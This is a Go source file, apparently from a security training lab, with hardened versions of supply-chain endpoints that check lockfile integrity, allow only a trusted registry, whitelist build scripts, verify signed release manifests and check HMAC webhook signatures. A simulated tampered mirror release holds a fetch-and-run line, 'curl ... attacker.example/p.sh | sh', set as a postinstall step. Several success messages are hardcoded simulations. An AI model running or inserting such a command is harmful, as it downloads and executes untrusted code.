@@ -0,0 +1,341 @@
+package endpoints
+
+import (
+	"crypto/ed25519"
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"sort"
+	"strings"
+)
+
+// A03:2025 - Software Supply Chain Failures
+// Исправленные версии эндпоинтов (режим secure)
+
+// Зафиксированная версия пакета и хеш его содержимого (как в package-lock.json)
+type lockedPackage struct {
+	Version   string
+	Integrity string
+}
+
+// Lock-файл проекта: устанавливаются только эти пакеты и версии
+var lockfile = map[string]lockedPackage{
+	"express": lockEntry("express", "4.21.2"),
+	"lodash":  lockEntry("lodash", "4.17.21"),
+	"axios":   lockEntry("axios", "1.7.9"),
+	"moment":  lockEntry("moment", "2.30.1"),
+}
+
+func lockEntry(name, version string) lockedPackage {
+	return lockedPackage{Version: version, Integrity: integrityOf(packageTarball(name, version))}
+}
+
+// Содержимое пакета, скачанного из реестра (в стенде - имитация)
+func packageTarball(name, version string) []byte {
+	return []byte("package " + name + "@" + version)
+}
+
+// Хеш в формате поля integrity
+func integrityOf(data []byte) string {
+	sum := sha256.Sum256(data)
+	return "sha256-" + base64.StdEncoding.EncodeToString(sum[:])
+}
+
+// Установить пакет из lock-файла, сверив хеш скачанного содержимого
+func installLocked(name string) (string, error) {
+	locked, ok := lockfile[name]
+	if !ok {
+		return "", fmt.Errorf("package %q is not in the lockfile", name)
+	}
+	if integrityOf(packageTarball(name, locked.Version)) != locked.Integrity {
+		return "", fmt.Errorf("integrity check failed for %s@%s", name, locked.Version)
+	}
+	return name + "@" + locked.Version, nil
+}
+
+// Исправление 1: устанавливаются только пакеты из lock-файла с проверкой целостности
+func apiV1PackagesInstallSecure(w http.ResponseWriter, r *http.Request) {
+	if r.Method != "POST" {
+		apiV1PackagesInstall(w, r)
+		return
+	}
+	// ИСПРАВЛЕНИЕ: версия и хеш пакета зафиксированы в lock-файле
+	installed, err := installLocked(r.FormValue("package"))
+	if err != nil {
+		sendJSONStatus(w, http.StatusBadRequest, map[string]interface{}{
+			"status":  "error",
+			"message": err.Error(),
+		})
+		return
+	}
+	sendJSON(w, map[string]interface{}{
+		"status":  "success",
+		"message": fmt.Sprintf("Package %s installed, integrity verified", installed),
+	})
+}
+
+// Реестры, из которых разрешено загружать зависимости
+var trustedRegistries = map[string]bool{
+	"registry.npmjs.org": true,
+}
+
+// Исправление 2: зависимости только из доверенного реестра по HTTPS
+func apiV1DependenciesUpdateSecure(w http.ResponseWriter, r *http.Request) {
+	// ИСПРАВЛЕНИЕ: хост сравнивается целиком, а не поиском подстроки
+	u, err := url.Parse(r.URL.Query().Get("url"))
+	if err != nil || u.Scheme != "https" || !trustedRegistries[u.Hostname()] {
+		sendJSONStatus(w, http.StatusBadRequest, map[string]interface{}{
+			"status":  "error",
+			"message": "Dependencies can only be loaded from the trusted registry over HTTPS",
+		})
+		return
+	}
+	sendJSON(w, map[string]interface{}{
+		"status":  "success",
+		"message": fmt.Sprintf("Dependency index loaded from %s", u.Host),
+	})
+}
+
+// Разрешенные сценарии сборки и их результат
+var buildScripts = map[string]string{
+	"npm run build": "> my-app@1.0.0 build\n> webpack --mode production\n\nBuild completed",
+	"npm test":      "> my-app@1.0.0 test\n> jest\n\nTests: 42 passed, 42 total",
+	"npm run lint":  "> my-app@1.0.0 lint\n> eslint src\n\nNo problems found",
+}
+
+// Исправление 3: сборка запускает только сценарии из конфигурации проекта
+func apiV1BuildSecure(w http.ResponseWriter, r *http.Request) {
+	if r.Method != "POST" {
+		apiV1Build(w, r)
+		return
+	}
+	// ИСПРАВЛЕНИЕ: команда не передается в shell, выбирается из белого списка
+	output, ok := buildScripts[strings.TrimSpace(r.FormValue("script"))]
+	if !ok {
+		sendJSONStatus(w, http.StatusBadRequest, map[string]interface{}{
+			"status":  "error",
+			"message": "Unknown build script",
+		})
+		return
+	}
+	sendJSON(w, map[string]interface{}{
+		"status": "success",
+		"output": output,
+	})
+}
+
+// Подписанный поставщиком манифест релизов: версия -> SHA-256 архива
+type releaseManifest struct {
+	Checksums map[string]string
+	Signature []byte
+}
+
+// Содержимое архива релиза (в стенде - имитация)
+func releaseArchive(version string) []byte {
+	return []byte("my-app release " + version)
+}
+
+// Архив версии на зеркале обновлений. Кроме релизов поставщика, на зеркало
+// подложена версия 2.0.0 с вредоносным postinstall
+func mirrorArchive(version string) ([]byte, bool) {
+	switch version {
+	case "1.2.2", "1.2.3", "1.3.0":
+		return releaseArchive(version), true
+	case "2.0.0":
+		return []byte("my-app release 2.0.0\npostinstall: curl -s http://updates.attacker.example/p.sh | sh"), true
+	}
+	return nil, false
+}
+
+// Манифест, опубликованный поставщиком. Подписывается ключом поставщика;
+// сервер проверяет подпись только открытым ключом
+func publishedReleases() releaseManifest {
+	checksums := map[string]string{}
+	for _, version := range []string{"1.2.2", "1.2.3", "1.3.0"} {
+		sum := sha256.Sum256(releaseArchive(version))
+		checksums[version] = hex.EncodeToString(sum[:])
+	}
+	vendor := ed25519.NewKeyFromSeed(serverKey("vendor"))
+	manifest := releaseManifest{Checksums: checksums}
+	manifest.Signature = ed25519.Sign(vendor, manifest.payload())
+	return manifest
+}
+
+// Подписываемое содержимое манифеста (версии по порядку)
+func (m releaseManifest) payload() []byte {
+	versions := make([]string, 0, len(m.Checksums))
+	for version := range m.Checksums {
+		versions = append(versions, version)
+	}
+	sort.Strings(versions)
+	var b strings.Builder
+	for _, version := range versions {
+		b.WriteString(version + " " + m.Checksums[version] + "\n")
+	}
+	return []byte(b.String())
+}
+
+// Проверить подпись манифеста и контрольную сумму архива версии
+func verifyRelease(version string) error {
+	manifest := publishedReleases()
+	if !ed25519.Verify(vendorPublicKey(), manifest.payload(), manifest.Signature) {
+		return fmt.Errorf("release manifest signature is invalid")
+	}
+	expected, ok := manifest.Checksums[version]
+	if !ok {
+		return fmt.Errorf("version %q is not in the signed release manifest", version)
+	}
+	archive, _ := mirrorArchive(version)
+	sum := sha256.Sum256(archive)
+	if hex.EncodeToString(sum[:]) != expected {
+		return fmt.Errorf("checksum mismatch for version %s", version)
+	}
+	return nil
+}
+
+// Исправление 4: обновление проверяется по подписанному манифесту
+func apiV1UpdateSecure(w http.ResponseWriter, r *http.Request) {
+	version := r.URL.Query().Get("version")
+	// ИСПРАВЛЕНИЕ: версия должна быть в манифесте, SHA-256 архива совпадает с манифестом
+	if err := verifyRelease(version); err != nil {
+		sendJSONStatus(w, http.StatusBadRequest, map[string]interface{}{
+			"status":  "error",
+			"message": err.Error(),
+		})
+		return
+	}
+	sendJSON(w, map[string]interface{}{
+		"status":  "success",
+		"message": fmt.Sprintf("Updated to version %s, checksum and signature verified", version),
+	})
+}
+
+// Исправление 5: зависимости обновлены до версий без известных уязвимостей
+func apiV1DependenciesListSecure(w http.ResponseWriter, r *http.Request) {
+	// ИСПРАВЛЕНИЕ: версии из lock-файла, зависимости проверяются сканером в CI
+	dependencies := map[string]string{}
+	for name, locked := range lockfile {
+		dependencies[name] = locked.Version
+	}
+	sendJSON(w, map[string]interface{}{
+		"dependencies":    dependencies,
+		"vulnerabilities": "0 known CVEs",
+	})
+}
+
+// Исправление 6: пакет ищется только по точному имени
+func apiV1PackagesSearchSecure(w http.ResponseWriter, r *http.Request) {
+	query := r.URL.Query().Get("q")
+	// ИСПРАВЛЕНИЕ: похожие имена не устанавливаются, разрешены только пакеты из lock-файла
+	locked, ok := lockfile[query]
+	if !ok {
+		sendJSONStatus(w, http.StatusNotFound, map[string]interface{}{
+			"status":  "error",
+			"message": "Package not found",
+		})
+		return
+	}
+	sendJSON(w, map[string]interface{}{
+		"status":  "success",
+		"package": query,
+		"version": locked.Version,
+	})
+}
+
+// Репозитории с обязательной подписью коммитов доверенными ключами
+var trustedRepos = map[string]bool{
+	"https://github.com/company/production-app.git": true,
+	"https://github.com/company/shared-libs.git":    true,
+}
+
+// Исправление 7: клонируются только доверенные репозитории с проверкой подписей
+func apiV1RepoCloneSecure(w http.ResponseWriter, r *http.Request) {
+	repo := r.URL.Query().Get("repo")
+	// ИСПРАВЛЕНИЕ: репозиторий из белого списка, подписи коммитов проверяются
+	if !trustedRepos[repo] {
+		sendJSONStatus(w, http.StatusBadRequest, map[string]interface{}{
+			"status":  "error",
+			"message": "Repository is not in the list of trusted repositories",
+		})
+		return
+	}
+	sendJSON(w, map[string]interface{}{
+		"status":  "success",
+		"message": fmt.Sprintf("Repository %s cloned, all commit signatures verified", repo),
+	})
+}
+
+// Исправление 8: webhook проверяет подпись отправителя
+func apiV1WebhookUpdateSecure(w http.ResponseWriter, r *http.Request) {
+	if r.Method != "POST" {
+		apiV1WebhookUpdate(w, r)
+		return
+	}
+	// ИСПРАВЛЕНИЕ: HMAC-SHA256 тела запроса с общим секретом (как X-Hub-Signature-256 в GitHub)
+	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
+	if !validWebhookSignature(r, body) {
+		sendJSONStatus(w, http.StatusUnauthorized, map[string]interface{}{
+			"status":  "error",
+			"message": "Invalid webhook signature",
+		})
+		return
+	}
+	event, err := parsePushEvent(body)
+	if err != nil {
+		sendJSONStatus(w, http.StatusBadRequest, map[string]interface{}{
+			"status":  "error",
+			"message": err.Error(),
+		})
+		return
+	}
+	sendJSON(w, map[string]interface{}{
+		"status":  "success",
+		"message": fmt.Sprintf("Deployed commit %s from %s, webhook signature verified", event.After, event.Ref),
+	})
+}
+
+// Подпись webhook: X-Hub-Signature-256 = sha256=HMAC-SHA256(тело, общий секрет)
+func validWebhookSignature(r *http.Request, body []byte) bool {
+	mac := hmac.New(sha256.New, serverKey("webhook"))
+	mac.Write(body)
+	expected := "sha256=" + hex.EncodeToString(mac.Sum(nil))
+	return hmac.Equal([]byte(r.Header.Get("X-Hub-Signature-256")), []byte(expected))
+}
+
+// Исправление 9: пакеты загружаются из закрепленного реестра с проверкой хеша
+func apiV1PackageRegistrySecure(w http.ResponseWriter, r *http.Request) {
+	// ИСПРАВЛЕНИЕ: даже при подмене DNS пакет не пройдет проверку integrity из lock-файла
+	installed, err := installLocked(r.URL.Query().Get("package"))
+	if err != nil {
+		sendJSONStatus(w, http.StatusBadRequest, map[string]interface{}{
+			"status":  "error",
+			"message": err.Error(),
+		})
+		return
+	}
+	sendJSON(w, map[string]interface{}{
+		"status":   "success",
+		"package":  installed,
+		"registry": "https://registry.npmjs.org (TLS verified)",
+	})
+}
+
+// Исправление 10: транзитивные зависимости обновлены и проверяются сканером
+func apiV1DependenciesTreeSecure(w http.ResponseWriter, r *http.Request) {
+	// ИСПРАВЛЕНИЕ: overrides в package.json поднимают уязвимые транзитивные версии
+	w.Write([]byte(`my-app@1.0.0
+├── express@4.21.2
+│   └── body-parser@1.20.3
+│       └── debug@2.6.9
+├── lodash@4.17.21
+└── axios@1.7.9
+    └── follow-redirects@1.15.9
+
+Total: 0 known vulnerabilities
+Automated security scanning: enabled`))
+}